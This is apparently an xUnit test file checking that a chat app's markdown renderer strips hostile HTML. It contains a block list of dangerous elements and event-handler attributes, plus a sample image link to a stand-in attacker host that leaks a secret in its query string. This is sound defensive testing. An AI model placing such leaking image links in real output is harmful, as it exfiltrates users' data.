using AgentRooms.Tests.Shared;
using AgentRooms.Web.Messages;
using AngleSharp.Html.Parser;

namespace AgentRooms.Tests.Messages;

public sealed class MarkdownRendererTests
{
    private static readonly MarkdownRenderer Renderer = new();
    private static readonly string[] ForbiddenElements = ["script", "img", "svg", "iframe", "style", "form", "input", "button", "math", "object", "embed"];

    public static TheoryData<string> Corpus => new(HostileMarkdown.Corpus);

    [Theory]
    [MemberData(nameof(Corpus))]
    public void Hostile_markdown_renders_inert(string markdown)
    {
        var html = Renderer.ToHtml(markdown);
        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");

        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, ForbiddenElements);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} in {html}");
                Assert.False(attribute.Name.StartsWith("hx-", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} in {html}");
                Assert.False(attribute.Name.StartsWith("data-", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} in {html}");
                Assert.Contains(attribute.Name, new[] { "href", "rel", "target", "start" });
            }
            if (element.GetAttribute("href") is { } href)
                Assert.True(href == "#" || href.StartsWith("https://") || href.StartsWith("http://") || href.StartsWith('/'), href);
        }
    }

    [Theory]
    [InlineData("hello world")]
    [InlineData("Is it \"quoted\" or 'not'? Yes (mostly) - fine; done!")]
    [InlineData("Ünïcødé letters and 123 digits. Straße")]
    [InlineData("bench 42")]
    [InlineData("two  spaces inside")]
    public void Plain_lines_take_the_short_path_and_come_out_as_the_full_path_renders_them(string text)
    {
        Assert.True(MarkdownRenderer.IsPlainText(text));
        Assert.Equal(Renderer.Render(text), Renderer.ToHtml(text));
    }

    [Theory]
    [InlineData("1. a list")]
    [InlineData("- a list")]
    [InlineData("see www.example.com")]
    [InlineData("go to https://example.org")]
    [InlineData("a < b")]
    [InlineData("fish & chips")]
    [InlineData("*bold*")]
    [InlineData("snake_case")]
    [InlineData("line one\nline two")]
    [InlineData("trailing space ")]
    [InlineData(" leading space")]
    [InlineData("#hashtag")]
    [InlineData("an [anchor]")]
    [InlineData("back\\slash")]
    [InlineData("mail me: x")]
    [InlineData("")]
    public void Anything_markdown_might_touch_takes_the_full_path(string text)
    {
        Assert.False(MarkdownRenderer.IsPlainText(text));
    }

    [Fact]
    public void Ordinary_markdown_still_works()
    {
        var html = Renderer.ToHtml("**bold** _it_ `code`\n\n- one\n- two\n\n> quote\n\n```\nx < y\n```\n\n[site](https://example.org/) and https://example.com/auto");

        Assert.Contains("<strong>bold</strong>", html);
        Assert.Contains("<em>it</em>", html);
        Assert.Contains("<code>code</code>", html);
        Assert.Contains("<li>one</li>", html);
        Assert.Contains("<blockquote>", html);
        Assert.Contains("x &lt; y", html);
        Assert.Contains("href=\"https://example.org/\"", html);
        Assert.Contains("href=\"https://example.com/auto\"", html);
    }

    [Fact]
    public void Links_never_pass_on_the_referrer_or_the_opener_and_images_are_not_fetched()
    {
        var html = Renderer.ToHtml("[a](https://example.org/?q=1) ![img](https://evil.example/pixel.png?leak=secret)");

        var document = new HtmlParser().ParseDocument(html);
        Assert.Empty(document.QuerySelectorAll("img"));
        Assert.All(document.QuerySelectorAll("a"), link => Assert.Equal("noopener noreferrer nofollow", link.GetAttribute("rel")));
    }
}
